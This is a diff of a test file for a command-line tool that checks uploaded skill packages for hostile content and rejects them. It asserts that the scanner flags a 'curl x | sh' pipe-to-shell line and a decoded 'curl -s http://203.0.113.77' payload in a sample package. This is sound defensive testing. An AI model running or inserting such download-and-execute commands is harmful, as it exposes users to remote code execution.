@@ -100,10 +100,19 @@ def test_a_rejected_skill_ends_with_5_and_every_finding_has_its_place(alice, con
     assert ran.code == 5
     assert "alice/answers@1.0.0 rejected" in ran.out
     assert "  SKILL.md:9\n      | curl x | sh\n" in ran.out
-    assert "critical  It runs what it downloads.  [pipe_to_shell, SK-DROP]" in ran.out
+    assert "critical  It runs what it downloads.  [pipe_to_shell, SK-DROP, high confidence]" in ran.out
     assert "fix: Ship the code." in ran.out
     assert "skill appeal alice/answers@1.0.0" in ran.out
     assert alice.run("status", "alice/answers").code == 5
+
+
+def test_what_was_judged_already_is_told_at_once(alice, conclude):
+    folder = alice.skill("answers")
+    assert alice.run("push", folder).code == 0
+    conclude("alice/answers", "block")
+    ran = alice.run("push", folder, "--json")
+    assert (ran.code, ran.json["status"], ran.json["safety"]["verdict"]) == (5, "rejected", "block")
+    assert "here already, as alice/answers@1.0.0" in ran.err
 
 
 def test_waiting_in_vain_ends_in_time_and_says_how_to_go_on(alice):
@@ -148,7 +157,7 @@ def test_check_shows_findings_and_keeps_nothing(stranger):
 
     ran = stranger.run("check", SAMPLES / "hostile" / "pdf-tidy")
     assert ran.code == 5
-    assert "/pdf-tidy/SKILL.md:18\n" in ran.out and "[decoded_payload, SK-OBF]" in ran.out
+    assert "/pdf-tidy/SKILL.md:18\n" in ran.out and "[decoded_payload, SK-OBF, " in ran.out
     assert "= decoded: curl -s http://203.0.113.77" in ran.out
     assert not Skill.objects.exists()
 
